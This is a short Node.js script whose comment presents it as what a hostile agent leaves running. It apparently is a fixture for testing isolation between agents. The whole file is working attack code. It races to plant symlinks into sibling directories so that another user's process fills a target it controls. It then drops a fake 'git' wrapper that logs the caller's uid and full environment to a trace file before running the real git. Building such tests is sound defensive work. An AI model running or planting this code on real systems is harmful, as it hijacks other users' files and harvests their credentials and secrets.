// What a hostile agent leaves running: wherever a directory appears beside its home, it lays a link to `prize` in the way of whoever fills it;
// and once `prize` is its own, it puts a git there that tells who runs it.
import { mkdirSync, readdirSync, rmdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';

const [parent, prize, trace] = process.argv.slice(2);
const uid = process.getuid();
const tried = act => { try { act(); } catch { /* not reachable, or not there */ } };

writeFileSync(`${trace}/racer`, String(process.pid));
for (const end = Date.now() + 30_000; Date.now() < end;) {
  for (const name of readdirSync(parent).filter(n => n !== 'agent')) {
    for (const objects of [`${parent}/${name}/objects`, `${parent}/${name}/new/objects`]) {
      tried(() => mkdirSync(objects));
      tried(() => rmdirSync(`${objects}/pack`));
      tried(() => symlinkSync(prize, `${objects}/pack`));
    }
  }
  if (statSync(prize).uid !== uid) continue;
  tried(() => writeFileSync(`${prize}/git`, `#!/bin/sh\n{ id -u; env; } >> ${trace}/git-as-$(id -u)\nexec /usr/bin/git "$@"\n`, { mode: 0o755, flag: 'wx' }));
}
